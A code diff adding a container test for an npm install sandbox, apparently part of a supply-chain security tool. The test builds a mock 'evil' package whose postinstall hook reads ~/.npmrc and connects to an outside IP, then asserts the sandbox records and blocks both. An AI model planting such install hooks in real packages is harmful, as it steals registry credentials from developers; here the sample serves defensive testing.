@@ -657,3 +657,47 @@ def test_two_builds_of_the_same_commit_give_the_same_image(image: str, request: 
     verdict = verify_reproducible(say, image, SESSION_BUILD.get("cached_steps"))
     say(f"test_container: reproducibility ({verdict.how}): {(verdict.message.splitlines() or [''])[0]}")
     assert verdict.ok, verdict.message
+
+
+SANDBOX_PROBE = r"""
+import json, os, subprocess, sys
+from pathlib import Path
+sys.path.insert(0, "/opt/gatekeeper")
+from gatekeeper._internal import sandbox
+from gatekeeper.diffing import install_behaviour as ib
+
+out = {"probe": sandbox.probe()}
+pkg = Path("/tmp/evil")
+pkg.mkdir()
+manifest = {"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "node p.js"}}
+(pkg / "package.json").write_text(json.dumps(manifest))
+(pkg / "p.js").write_text(
+    "const fs = require('fs'), os = require('os'), net = require('net');\n"
+    "fs.readFileSync(os.homedir() + '/.npmrc');\n"
+    "const s = net.connect(443, '198.51.100.7'); s.on('error', (e) => console.log('net ' + e.code));\n"
+)
+tgz = subprocess.run(["npm", "pack", "--silent"], cwd=pkg, capture_output=True, text=True, check=True).stdout.strip()
+obs = sandbox.observe_install(pkg / tgz, "evil", registry="http://127.0.0.1:9/")
+prof = ib.read_trace(obs.trace, ib.Layout(obs.project, obs.home, obs.tmp, obs.canaries))
+out["exit"] = obs.exit_code
+out["left"] = obs.left_running
+out["lost"] = list(obs.lost)
+out["profile"] = prof.to_json()
+out["output"] = obs.output[-1500:]
+print(json.dumps(out))
+"""
+
+
+def test_the_install_sandbox_works_in_the_container_as_github_runs_it(image: str) -> None:
+    """Issue 25: strace (ptrace of its own children), setpriv and the seccomp filter work in the image under runc
+    with podman's default seccomp profile and capabilities, no --privileged: the runner's `docker run`."""
+    proc = podman(*RUN, "--network", "none", "--entrypoint", "/opt/venv/bin/python", image, "-I", "-B", "-c",
+                  SANDBOX_PROBE)  # fmt: skip
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    out = json.loads(proc.stdout.strip().splitlines()[-1])
+    assert out["probe"] is None, out
+    assert out["exit"] == 0 and out["left"] == 0 and out["lost"] == [], out
+    evil = out["profile"]["evil"]
+    assert "~/.npmrc" in evil["canaries"], out
+    assert "AF_INET 198.51.100.7 port 443" in evil["network"], out
+    assert "net EACCES" in out["output"], out  # refused by the filter (the container has no network anyway)
